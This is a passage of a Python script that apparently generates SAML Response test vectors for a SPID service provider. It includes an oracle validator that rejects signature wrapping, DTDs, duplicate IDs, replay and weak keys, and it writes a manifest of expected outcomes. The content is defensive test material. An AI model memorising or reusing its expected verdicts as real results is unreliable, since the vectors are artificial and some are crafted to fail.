    if data[:2] in (b"\xff\xfe", b"\xfe\xff") or b"\x00" in data[:4]:
        raise Rej("input-encoding")
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError:
        raise Rej("input-encoding")
    m = re.match(r'<\?xml[^>]*?encoding\s*=\s*["\']([^"\']+)["\']', text)
    if m and m.group(1).lower() not in ("utf-8", "utf8"):
        raise Rej("input-encoding")
    if len(data) > 256 * 1024:
        raise Rej("input-too-large")
    p = xml.parsers.expat.ParserCreate("UTF-8", "\x01")
    p.buffer_text = True
    st = {"root": None, "cur": None, "depth": 0, "maxdepth": 0, "nodes": 0, "maxattrs": 0, "cpi": False}

    def split(n):
        return tuple(n.split("\x01")) if "\x01" in n else ("", n)

    def start(name, attrs):
        ns, local = split(name)
        e = El(ns, local, {split(k): v for k, v in attrs.items()}, st["cur"])
        if st["cur"] is None:
            st["root"] = e
        else:
            st["cur"].kids.append(e)
        st["cur"] = e
        st["depth"] += 1
        st["nodes"] += 1
        st["maxdepth"] = max(st["maxdepth"], st["depth"])
        st["maxattrs"] = max(st["maxattrs"], len(attrs))

    def end(name):
        cur = st["cur"]
        if cur.comment and "".join(cur.text).strip(" \t\r\n"):
            st["cpi"] = True                 # a comment inside a text value
        st["cur"] = st["cur"].parent
        st["depth"] -= 1

    def chars(d):
        st["nodes"] += 1
        if st["cur"] is not None:
            st["cur"].text.append(d)

    def doctype(*a):
        raise Rej("xml-dtd")

    def pi(*a):
        st["nodes"] += 1
        st["cpi"] = True

    def comment(*a):
        # Allowed, unless it shares its element with a text value (checked at the end tag).
        st["nodes"] += 1
        if st["cur"] is not None:
            st["cur"].comment = True

    p.StartElementHandler, p.EndElementHandler, p.CharacterDataHandler = start, end, chars
    p.StartDoctypeDeclHandler = doctype
    p.ProcessingInstructionHandler = pi
    p.CommentHandler = comment
    try:
        p.Parse(data, True)
    except xml.parsers.expat.ExpatError:
        raise Rej("xml-malformed")
    if st["maxdepth"] > LIMITS["depth"] or st["nodes"] > LIMITS["nodes"] or st["maxattrs"] > LIMITS["attrs"]:
        raise Rej("xml-limits")
    if st["cpi"]:
        raise Rej("xml-comment")
    return st["root"]


def oracle_sig(path, parent, sig, which, opts):
    """Check 8 / 11 sub-order for one enveloped signature."""
    si = sig.one(NS_DS, "SignedInfo")
    if len(sig.child(NS_DS, "SignedInfo")) != 1 or sig.one(NS_DS, "SignatureValue") is None or \
            si.one(NS_DS, "CanonicalizationMethod") is None or si.one(NS_DS, "SignatureMethod") is None:
        raise Rej("signature-malformed")
    if si.one(NS_DS, "CanonicalizationMethod").get("Algorithm") != EXC or \
            si.one(NS_DS, "SignatureMethod").get("Algorithm") not in (RSA_SHA256, RSA_SHA384, RSA_SHA512):
        raise Rej("signature-algorithm")
    refs = si.child(NS_DS, "Reference")
    pid = parent.get("ID")
    if len(refs) != 1 or not pid or refs[0].get("URI") != "#" + pid:
        raise Rej("signature-reference")
    tr = refs[0].one(NS_DS, "Transforms")
    algs = [t.get("Algorithm") for t in tr.child(NS_DS, "Transform")] if tr is not None else []
    if tr is None or len(tr.kids) != 2 or algs != [ENV, EXC]:
        raise Rej("signature-transforms")
    dm = refs[0].one(NS_DS, "DigestMethod")
    if dm is None or dm.get("Algorithm") not in (SHA256, SHA384, SHA512, "http://www.w3.org/2001/04/xmlenc#sha384"):
        raise Rej("signature-algorithm")
    xp = XP_RSIG if which == "response" else XP_ASIG
    keys = ["idp2"] if opts.get("idp") == IDP2 else ["idp"] + (["weak1024"] if opts.get("extra_idp_key") == "weak1024" else [])
    results = {k: xmlsec_verify(path, xp, k) for k in keys}
    for k, (ok, _) in results.items():
        if ok and KEYPAIRS[k][0] < 2048:
            raise Rej("weak-key")
    if not all(refs_ok for (_, refs_ok) in results.values()):
        raise Rej("digest-mismatch")
    if not any(ok for (ok, _) in results.values()):
        raise Rej("signature-invalid")


# Content models (step 6b): element -> sequence of (allowed {(ns, local)} or "##other", max occurrences).
# Minimum counts are left to the field checks (step 12/13), which report specific codes.
ONE, MANY = 1, 10 ** 9
STRUCT = {
    (NS_P, "Response"): [({(NS_A, "Issuer")}, ONE), ({(NS_DS, "Signature")}, ONE), ({(NS_P, "Extensions")}, ONE),
                         ({(NS_P, "Status")}, ONE), ({(NS_A, "Assertion")}, ONE)],
    (NS_P, "Status"): [({(NS_P, "StatusCode")}, ONE), ({(NS_P, "StatusMessage")}, ONE), ({(NS_P, "StatusDetail")}, ONE)],
    (NS_P, "StatusCode"): [({(NS_P, "StatusCode")}, ONE)],
    (NS_A, "Assertion"): [({(NS_A, "Issuer")}, ONE), ({(NS_DS, "Signature")}, ONE), ({(NS_A, "Subject")}, ONE),
                          ({(NS_A, "Conditions")}, ONE), ({(NS_A, "Advice")}, ONE),
                          ({(NS_A, "AuthnStatement"), (NS_A, "AttributeStatement")}, MANY)],
    (NS_A, "Subject"): [({(NS_A, "NameID")}, ONE), ({(NS_A, "SubjectConfirmation")}, MANY)],
    (NS_A, "SubjectConfirmation"): [({(NS_A, "NameID")}, ONE), ({(NS_A, "SubjectConfirmationData")}, ONE)],
    (NS_A, "Conditions"): [({(NS_A, n) for n in ("AudienceRestriction", "OneTimeUse", "ProxyRestriction", "Condition")}, MANY)],
    (NS_A, "AudienceRestriction"): [({(NS_A, "Audience")}, MANY)],
    (NS_A, "ProxyRestriction"): [({(NS_A, "Audience")}, MANY)],
    (NS_A, "Advice"): [({(NS_A, n) for n in ("AssertionIDRef", "AssertionURIRef", "Assertion", "EncryptedAssertion")}, MANY),
                       ("##other", MANY)],
    (NS_A, "AuthnStatement"): [({(NS_A, "SubjectLocality")}, ONE), ({(NS_A, "AuthnContext")}, ONE)],
    (NS_A, "AuthnContext"): [({(NS_A, "AuthnContextClassRef")}, ONE),
                             ({(NS_A, "AuthnContextDecl"), (NS_A, "AuthnContextDeclRef")}, ONE),
                             ({(NS_A, "AuthenticatingAuthority")}, MANY)],
    (NS_A, "AttributeStatement"): [({(NS_A, "Attribute")}, MANY)],
    (NS_A, "Attribute"): [({(NS_A, "AttributeValue")}, MANY)],
}
STRUCT_TEXT = {(NS_A, n) for n in ("Issuer", "NameID", "Audience", "AuthnContextClassRef", "AuthnContextDeclRef",
                                   "AuthenticatingAuthority", "AssertionIDRef", "AssertionURIRef")} | {(NS_P, "StatusMessage")}
STRUCT_EMPTY = {(NS_A, "OneTimeUse"), (NS_A, "SubjectLocality")}


def oracle_structure(e):
    """Step 6b: every element allowed where it is (names, order, max counts, text vs elements)."""
    key = (e.ns, e.local)
    if key in STRUCT_TEXT:
        if e.kids:
            raise Rej("schema-structure")
        return
    if key in STRUCT_EMPTY:
        if e.kids or e.txt():
            raise Rej("schema-structure")
        return
    model = STRUCT.get(key)
    if model is None:
        return                      # free content (Signature, Extensions, AttributeValue, foreign...)
    if e.txt():
        raise Rej("schema-structure")
    pos, count = 0, 0
    for k in e.kids:
        for i in range(pos, len(model)):
            names, _ = model[i]
            if (names == "##other" and k.ns not in (NS_A, NS_P)) or (names != "##other" and (k.ns, k.local) in names):
                break
        else:
            raise Rej("schema-structure")
        if i != pos:
            pos, count = i, 0
        count += 1
        if count > model[pos][1]:
            raise Rej("schema-structure")
        oracle_structure(k)


def oracle(path, opts):
    data = open(path, "rb").read()
    try:
        _oracle(path, data, opts)
        return "accept"
    except Rej as r:
        code = r.args[0]
        return code if code.startswith("refuse:") else "reject:" + code


def _oracle(path, data, opts):
    idp = opts.get("idp", IDP)
    now = parse_time(opts.get("now", NOW))
    skew = dt.timedelta(seconds=SKEW)
    req_ii = parse_time(REQ_II)
    root = oracle_parse(data)
    # 3
    if (root.ns, root.local) != (NS_P, "Response"):
        raise Rej("not-a-response")
    # 4
    seen = set()
    for e in root.walk():
        for (ns, local), v in e.attrs.items():
            if (ns == "" and local in ("ID", "Id", "id")) or (ns == NS_XML and local == "id"):
                if v in seen:
                    raise Rej("duplicate-id")
                seen.add(v)
    # 5
    top_asserts = root.child(NS_A, "Assertion")
    allowed = [root] + top_asserts
    for e in root.walk():
        if (e.ns, e.local) == (NS_DS, "Signature") and not any(e.parent is a for a in allowed):
            raise Rej("misplaced-signature")
    for a in allowed:
        if len(a.child(NS_DS, "Signature")) > 1:
            raise Rej("misplaced-signature")
    # 6
    for e in root.walk():
        if (e.ns, e.local) == (NS_A, "EncryptedAssertion"):
            raise Rej("assertion-count")
        if (e.ns, e.local) == (NS_A, "Assertion") and e.parent is not root:
            raise Rej("assertion-count")
        if (e.ns, e.local) == (NS_P, "Response") and e is not root:
            raise Rej("assertion-count")
    if len(top_asserts) > 1:
        raise Rej("assertion-count")
    asrt = top_asserts[0] if top_asserts else None
    # 6b
    oracle_structure(root)
    # 7
    ri = root.one(NS_A, "Issuer")
    ai = asrt.one(NS_A, "Issuer") if asrt is not None else None
    for iss in (ri, ai):
        if iss is not None and iss.txt() and iss.txt() != idp:
            raise Rej("issuer-mismatch")
    # 8
    rs = root.one(NS_DS, "Signature")
    if rs is not None:
        oracle_sig(path, root, rs, "response", opts)
    # 9
    status = root.one(NS_P, "Status")
    if status is None or status.empty():
        raise Rej("response-status")
    sc = status.one(NS_P, "StatusCode")
    if sc is None or not (sc.get("Value") or "").strip():
        raise Rej("response-status")
    if sc.get("Value").strip() == SUCCESS and sc.child(NS_P, "StatusCode"):
        raise Rej("response-status")
    if sc.get("Value").strip() != SUCCESS:
        if root.get("InResponseTo") != REQ_ID:
            raise Rej("response-in-response-to")
        sm = status.one(NS_P, "StatusMessage")
        m = re.search(r"ErrorCode nr(\d+)", sm.txt() if sm is not None else "")
        raise Rej("refuse:nr%s" % m.group(1) if m else "refuse:status")
    # 10
    if asrt is None:
        raise Rej("assertion-count")
    # 11
    asig = asrt.one(NS_DS, "Signature")
    if asig is None:
        raise Rej("assertion-unsigned")
    oracle_sig(path, asrt, asig, "assertion", opts)

    def instant(v, code, not_before_req=True, old_code=None):
        t = parse_time((v or "").strip()) if v else None
        if t is None or t > now + skew:
            raise Rej(code)
        if not_before_req and t < req_ii - skew:
            # Issued before the request it answers: an expired (or replayed) message.
            raise Rej(old_code or code)

    # 12
    if not (root.get("ID") or "").strip():
        raise Rej("response-id")
    if root.get("Version") != "2.0":
        raise Rej("response-version")
    instant(root.get("IssueInstant"), "response-issue-instant", old_code="response-expired")
    if root.get("InResponseTo") != REQ_ID:
        raise Rej("response-in-response-to")
    if root.get("Destination") != ACS:
        raise Rej("response-destination")
    if ri is None or not ri.txt():
        raise Rej("response-issuer")
    if ri.get("Format") is not None and ri.get("Format") != ENTITY:
        raise Rej("response-issuer-format")
    # 13
    if not (asrt.get("ID") or "").strip():
        raise Rej("assertion-id")
    if asrt.get("Version") != "2.0":
        raise Rej("assertion-version")
    instant(asrt.get("IssueInstant"), "assertion-issue-instant", old_code="assertion-expired")
    if ai is None or not ai.txt():
        raise Rej("assertion-issuer")
    if ai.get("Format") != ENTITY:
        raise Rej("assertion-issuer-format")
    subj = asrt.one(NS_A, "Subject")
    if subj is None or subj.empty():
        raise Rej("subject")
    nid = subj.one(NS_A, "NameID")
    if nid is None or not nid.txt():
        raise Rej("name-id")
    if nid.get("Format") != TRANSIENT:
        raise Rej("name-id-format")
    if (nid.get("NameQualifier") or "").strip() != idp:
        raise Rej("name-id-qualifier")
    sc = subj.one(NS_A, "SubjectConfirmation")
    if sc is None or sc.empty() or sc.get("Method") != BEARER:
        raise Rej("subject-confirmation")
    scd = sc.one(NS_A, "SubjectConfirmationData")
    if scd is None:
        raise Rej("subject-confirmation-data")
    if scd.get("Recipient") != ACS:
        raise Rej("recipient")
    if scd.get("InResponseTo") != REQ_ID:
        raise Rej("subject-in-response-to")
    t = parse_time(scd.get("NotOnOrAfter") or "")
    if t is None or now - skew >= t:
        raise Rej("subject-not-on-or-after")
    if scd.get("NotBefore") is not None:
        raise Rej("subject-not-before")
    cond = asrt.one(NS_A, "Conditions")
    if cond is None or cond.empty():
        raise Rej("conditions")
    t = parse_time(cond.get("NotBefore") or "")
    if t is None or t > now + skew:
        raise Rej("conditions-not-before")
    t = parse_time(cond.get("NotOnOrAfter") or "")
    if t is None or now - skew >= t:
        raise Rej("conditions-not-on-or-after")
    others = [k for k in cond.kids if (k.ns, k.local) != (NS_A, "AudienceRestriction")]
    if any((k.ns, k.local) != (NS_A, "OneTimeUse") for k in others) or len(others) > 1:
        raise Rej("condition-unsupported")
    ar = cond.one(NS_A, "AudienceRestriction")
    aud = ar.one(NS_A, "Audience") if ar is not None else None
    if aud is None or aud.txt() != SP:
        raise Rej("audience")
    st = asrt.one(NS_A, "AuthnStatement")
    if st is None or st.empty():
        raise Rej("authn-statement")
    ac = st.one(NS_A, "AuthnContext")
    cr = ac.one(NS_A, "AuthnContextClassRef") if ac is not None else None
    if cr is None or not cr.txt():
        raise Rej("authn-context")
    levels = {L1: 1, L2: 2, L3: 3}
    got = levels.get(cr.txt())
    want = {"L1": 1, "L2": 2, "L3": 3}[opts.get("level", "L2")]
    cmp_ = opts.get("comparison", "minimum")
    if got is None or not (got > want or (got == want and cmp_ != "better") or (got < want and cmp_ == "maximum")):
        raise Rej("authn-level")
    federation = opts.get("federation", "spid")
    force_authn = federation in ("cie", "eidas") or want >= 2
    t = parse_time((st.get("AuthnInstant") or "").strip())
    if t is None or t > now + skew or (force_authn and t < req_ii - skew):
        raise Rej("authn-instant")
    if st.get("SessionNotOnOrAfter") is not None:
        t = parse_time(st.get("SessionNotOnOrAfter").strip())
        if t is None or now - skew >= t:
            raise Rej("session-not-on-or-after")
    values = {}
    spid_names = {"spidCode", "name", "familyName", "placeOfBirth", "countyOfBirth", "dateOfBirth", "gender",
                  "companyName", "companyFiscalNumber", "registeredOffice", "fiscalNumber", "ivaCode", "idCard",
                  "mobilePhone", "email", "address", "domicileStreetAddress", "domicilePostalCode",
                  "domicileMunicipality", "domicileProvince", "domicileNation", "expirationDate", "digitalAddress"}
    for ast in asrt.child(NS_A, "AttributeStatement"):
        attrs = ast.child(NS_A, "Attribute")
        if not attrs:
            raise Rej("attribute-statement")
        for a in attrs:
            vals = [v.txt() for v in a.child(NS_A, "AttributeValue")]
            if not any(vals):
                raise Rej("attribute-value")
            name = (a.get("Name") or "").strip()
            if name in values or (len(vals) > 1 and name in spid_names):
                raise Rej("attribute-duplicate")
            values[name] = vals[0]
    # 14 (only the eIDAS node vouches for an eIDAS identifier)
    eidas = federation == "eidas" and re.fullmatch(r"[A-Z]{2}/IT/\S+", values.get("spidCode", ""))
    if not values.get("fiscalNumber") and not eidas:
        raise Rej("identity-key-missing")


# --------------------------------------------------------------------------------------------
# Main
# --------------------------------------------------------------------------------------------
MANIFEST_HEADER = """# spid-sp SAML Response test vectors -- generated by tests/data/make-vectors.py, do not edit.
# Columns (TAB-separated): file  expect  note  [options]
#   expect: accept | refuse:nrNN (IdP refusal with SPID ErrorCode NN) | refuse:status (refusal, no ErrorCode)
#           | reject:CODE (first failing check, see README.md "Check order")
#   options: key=value;key=value -- now=<dateTime> level=L1|L2|L3 comparison=exact|minimum|better|maximum
#            idp=<entityID the request went to> extra_idp_key=<keys/NAME.crt.pem also trusted for that IdP>
#            federation=eidas (that IdP is registered as the Italian eIDAS node; default: SPID)
# Defaults of every vector unless options say otherwise:
#   SP entityID          https://sp.test.example/spid
#   ACS URL              https://sp.test.example/spid/acs
#   request sent to      https://idp.test.example   (trusted keys: keys/idp.crt.pem; idp2 -> keys/idp2.crt.pem)
#   AuthnRequest ID      _7d1f5ac0c8e9b6a4f2e1d3c5b7a9e8f60123456789
#   AuthnRequest instant 2026-01-15T10:00:00.000Z
#   requested level      https://www.spid.gov.it/SpidL2, Comparison minimum
#   now                  2026-01-15T10:00:10Z, clock skew 60 s
#   Response/Assertion IssueInstant and NotBefore 2026-01-15T10:00:02Z, NotOnOrAfter 2026-01-15T10:05:02Z,
#   AuthnInstant 2026-01-15T10:00:01Z
"""


def parse_opts(s):
    return dict(kv.split("=", 1) for kv in s.split(";") if kv) if s else {}


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--with-signxml", action="store_true", help="also (re)generate the signxml-*.xml vectors")
    ap.add_argument("--only", nargs="*", help="only these vector names (no cleanup, manifest still complete)")
    ap.add_argument("--no-oracle", action="store_true", help="skip the oracle self-check")
    a = ap.parse_args()
    for tool in ("openssl", "xmlsec1"):
        if not shutil.which(tool):
            sys.exit("%s not found: apt-get install -y xmlsec1 openssl" % tool)

    made = ensure_keys()
    if made:
        print("created key pairs: " + ", ".join(made))
    for fname, ent, key in (("idp-metadata.xml", IDP, "idp"), ("idp2-metadata.xml", IDP2, "idp2")):
        open(os.path.join(HERE, fname), "w").write(idp_metadata(ent, key))

    define_cases()
    define_structure_and_rule_cases()
    names = [c.name for c in CASES]
    assert len(names) == len(set(names)), "duplicate vector names"
    sx_version = None
    if a.with_signxml:
        sx_version = ensure_signxml()
        print("signxml %s (%s)" % (sx_version, venv_python()))

    os.makedirs(OUT, exist_ok=True)
    if not a.only:       # regenerate everything: drop stale files (keep signxml-* unless we remake them)
        for f in os.listdir(OUT):
            if f.endswith(".xml") and (a.with_signxml or not f.startswith("signxml-")):
                os.remove(os.path.join(OUT, f))

    def is_sx(c):
        return any(s is not None and s.signer == "signxml" for s in (c.build.rsig, c.build.asig))

    rows, failures = [], []
    for c in CASES:
        path = os.path.join(OUT, c.name + ".xml")
        if a.only and c.name not in a.only:
            if os.path.exists(path):
                rows.append(c)
            continue
        if is_sx(c) and not a.with_signxml:
            if os.path.exists(path):
                rows.append(c)
            continue
        try:
            data = build_vector(c)
        except Exception as e:            # report and go on
            failures.append("%s: build failed: %s" % (c.name, e))
            continue
        open(path, "wb").write(data)
        rows.append(c)

    with open(os.path.join(OUT, "manifest.tsv"), "w") as f:
        f.write(MANIFEST_HEADER)
        for c in rows:
            cols = [c.name + ".xml", c.expect, c.note.replace("\t", " ").replace("\n", " ")]
            if c.options:
                cols.append(c.options)
            f.write("\t".join(cols) + "\n")

    # self-check 1: xmlsec1
    n_ok = 0
    for c in rows:
        path = os.path.join(OUT, c.name + ".xml")
        for which, want in default_verify(c).items():
            ok, _ = xmlsec_verify(path, XP_RSIG if which == "response" else XP_ASIG, signer_key(c, which)
                                  if want else ("idp2" if parse_opts(c.options).get("idp") == IDP2 else "idp"))
            if ok != want:
                failures.append("%s: xmlsec1 says the %s signature is %s, expected %s"
                                % (c.name, which, "valid" if ok else "invalid", "valid" if want else "invalid"))
            else:
                n_ok += 1
    for c in rows:       # every accept vector must have declared its signatures
        if c.expect == "accept" and not default_verify(c).get("assertion"):
            failures.append("%s: accept vector without a verified Assertion signature" % c.name)

    # self-check 2: oracle
    mism = 0
    if not a.no_oracle:
        for c in rows:
            got = oracle(os.path.join(OUT, c.name + ".xml"), parse_opts(c.options))
            if got != c.expect:
                mism += 1
                failures.append("%s: oracle says %s, manifest says %s" % (c.name, got, c.expect))

    # summary
    kinds = {}
    codes = {}
    for c in rows:
        k = c.expect.split(":")[0]
        kinds[k] = kinds.get(k, 0) + 1
        codes[c.expect] = codes.get(c.expect, 0) + 1
    sizes = {c.name: os.path.getsize(os.path.join(OUT, c.name + ".xml")) for c in rows}
    print("vectors: %d  (%s)" % (len(rows), ", ".join("%s %d" % kv for kv in sorted(kinds.items()))))
    print("main vector valid-both-signed.xml: %d bytes" % sizes.get("valid-both-signed", 0))
    print("expect values:")
    for k in sorted(codes):
        print("  %-40s %d" % (k, codes[k]))
    print("xmlsec1 signature checks passed: %d" % n_ok)
    if not a.no_oracle:
        print("oracle agreement: %d/%d" % (len(rows) - mism, len(rows)))
    if failures:
        print("\nFAILURES (%d):" % len(failures))
        for f in failures:
            print("  " + f)
        sys.exit(1)
    print("all self-checks passed")


if __name__ == "__main__":
    main()
